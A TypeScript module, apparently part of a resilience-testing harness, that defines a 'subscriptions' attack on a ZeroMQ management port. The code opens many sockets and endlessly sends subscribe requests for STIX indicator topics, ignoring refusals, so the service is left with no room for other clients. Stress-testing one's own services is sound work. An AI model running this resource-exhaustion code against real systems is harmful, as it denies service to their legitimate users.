import { setTimeout as sleep } from 'node:timers/promises'
import { Request } from 'zeromq'
import type { Attack } from './attack.ts'

/** From one request of a connection to the next: so that the attacker needs little of the machine himself. */
const pauseMs = 5

/** On a loopback address, too, a stranger has an address of his own. */
const sourceOf = (host: string) => (host.startsWith('127.') ? '127.0.0.2:0;' : '')

/** A stranger who subscribes without end and never joins: nobody else would find room, today or after a restart. */
export const subscriptions: Attack = {
  name: 'subscriptions',
  description: 'Subscribes endlessly and never joins, so that there is no room for anybody else.',
  async run({ host, manage }, connections, signal) {
    const options = { linger: 0, receiveTimeout: 60_000, relaxed: true, correlate: true }
    const sockets = Array.from({ length: connections }, () => new Request(options))
    const subscribeEndlessly = async (socket: Request) => {
      socket.connect(`tcp://${sourceOf(host)}${host}:${manage}`)
      while (!signal.aborted) {
        // That there is no answer, or a refusal, ends nothing.
        await socket.send(JSON.stringify({ action: 'subscribe', topic: 'stix2/indicator' })).catch(() => {})
        await socket.receive().catch(() => {})
        await sleep(pauseMs)
      }
    }
    const close = () => {
      for (const socket of sockets) socket.close()
    }
    signal.addEventListener('abort', close)
    await Promise.all(sockets.map(subscribeEndlessly)).finally(close)
  },
}
